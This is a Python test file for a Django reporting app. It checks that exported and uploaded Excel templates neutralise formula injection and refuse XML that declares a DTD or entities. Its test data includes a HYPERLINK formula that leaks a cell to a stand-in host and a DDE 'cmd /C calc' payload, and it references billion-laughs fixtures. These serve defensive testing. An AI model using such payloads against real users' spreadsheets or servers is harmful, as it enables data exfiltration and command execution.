"""Spreadsheet safety in the Excel round trip: a unit's own words come back in the template it
downloads as inert text (no <f> element in the sheet XML); a formula-like cell typed into an
uploaded template is stored as text with a leading apostrophe; an upload whose XML declares a
DTD or entities is refused with a Chinese message."""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from planwatch.reporting.models import Submission
from planwatch.reporting.services.excel import FIRST_ROW, INDEX, SHEET
from planwatch.reporting.services.review import return_item
from planwatch.reporting.services.submissions import save_submission
from planwatch.reporting.services.validation import Figure
from planwatch.spreadsheets import UNSAFE_XML
from spreadsheet_xml import DTD_ONLY, LAUGHS, with_prolog

from .conftest import rule_of, xlsx_upload

LEAK = '=HYPERLINK("http://example.invalid/?leak="&B5,"点击查看")'


def workbook_url(cycle, unit) -> str:
    return reverse("reporting:workbook", args=[unit.pk, cycle.plan.pk, "2025Q4"])


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        return "".join(archive.read(n).decode() for n in names)


def test_user_text_in_the_exported_template_is_never_a_formula(cycle, reporter, office, reporter_unit):
    sub = save_submission(actor=reporter.user, rule=rule_of(cycle.own.indicator), period="2025Q4",
                          figure=Figure(Decimal("110"), "", LEAK, "=1+1"))  # fmt: skip
    return_item(actor=office.user, item=sub, reason="请核对")
    content = reporter.client.get(workbook_url(cycle, reporter_unit)).content
    xml = sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml
    assert re.search(r"<c [^>]*t=\"f\"", xml) is None
    sheet = load_workbook(io.BytesIO(content))[SHEET]
    row = [c.value for c in sheet[FIRST_ROW]]
    assert row[INDEX["note"]] == "'=1+1"
    assert row[INDEX["source"]] == "'" + LEAK
    assert sheet.cell(row=FIRST_ROW, column=INDEX["note"] + 1).data_type == "s"


def test_a_formula_typed_into_an_upload_is_stored_as_text(cycle, reporter, reporter_unit):
    content = reporter.client.get(workbook_url(cycle, reporter_unit)).content
    book = load_workbook(io.BytesIO(content))
    sheet = book[SHEET]
    for row in range(FIRST_ROW, sheet.max_row + 1):
        if sheet.cell(row=row, column=1).value == cycle.own.indicator.pk:
            sheet.cell(row=row, column=INDEX["value"] + 1, value=110)
            note = sheet.cell(row=row, column=INDEX["note"] + 1)
            note.value, note.data_type = "=cmd|' /C calc'!A0", "s"  # text that looks like a formula
            source = sheet.cell(row=row, column=INDEX["source"] + 1)
            source.value, source.data_type = "@SUM(1+1)", "s"
    out = io.BytesIO()
    book.save(out)
    response = reporter.client.post(workbook_url(cycle, reporter_unit), {"file": xlsx_upload(out.getvalue())})
    assert response.status_code == 302
    sub = Submission.objects.get(indicator=cycle.own.indicator, period="2025Q4")
    assert (sub.note, sub.source) == ("'=cmd|' /C calc'!A0", "'@SUM(1+1)")


@pytest.mark.parametrize("prolog", [LAUGHS, DTD_ONLY], ids=["entities", "dtd"])
def test_an_upload_whose_xml_declares_a_dtd_is_refused_in_chinese(cycle, reporter, reporter_unit, prolog):
    content = reporter.client.get(workbook_url(cycle, reporter_unit)).content
    hostile = with_prolog(content, prolog)
    response = reporter.client.post(workbook_url(cycle, reporter_unit), {"file": xlsx_upload(hostile)})
    assert response.status_code == 400  # the unit's page again, with the reason
    assert UNSAFE_XML in response.content.decode()
    assert not Submission.objects.exists()
